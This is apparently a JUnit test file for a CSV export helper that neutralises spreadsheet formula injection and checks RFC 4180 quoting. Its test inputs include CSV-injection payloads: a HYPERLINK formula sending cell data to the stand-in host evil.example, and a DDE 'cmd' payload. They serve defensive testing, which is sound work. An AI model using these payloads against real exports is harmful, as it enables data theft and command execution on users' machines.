package org.opentrials.portal.services.shared;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Cells staff open in a spreadsheet: formulas arrive as text, everything else unchanged, RFC 4180
 * quoting.
 */
class CsvTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Call us\")",
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1"
      })
  void anythingASpreadsheetCouldEvaluateGetsALeadingApostrophe(String hostile) {
    String cell = Csv.cell(hostile);
    assertThat(cell).startsWith("\"'" + hostile.charAt(0));
    assertThat(cell.substring(1, cell.length() - 1).replace("\"\"", "\"")).isEqualTo("'" + hostile);
  }

  @Test
  void aPhoneNumberWithACountryCodeIsPrefixedTooAndStaysReadable() {
    // Documented in Csv: one rule for every cell; the number stays readable after the apostrophe.
    assertThat(Csv.cell("+1 555-010-0199")).isEqualTo("\"'+1 555-010-0199\"");
    assertThat(Csv.cell("555-010-0199")).isEqualTo("\"555-010-0199\"");
  }

  @Test
  void quotesCommasAndLineBreaksStayInsideTheirCell() throws Exception {
    StringWriter out = new StringWriter();
    Csv.writeRow(out, Arrays.asList("Ana \"Nana\" Test", "a,b", "line one\r\nline two", null, ""));
    assertThat(out)
        .hasToString("\"Ana \"\"Nana\"\" Test\",\"a,b\",\"line one\r\nline two\",\"\",\"\"\r\n");
  }

  @Test
  void aFormulaAfterAQuoteIsNotAtTheStartAndNeedsNoApostrophe() {
    assertThat(Csv.cell("Dr. =Smith")).isEqualTo("\"Dr. =Smith\"");
  }
}
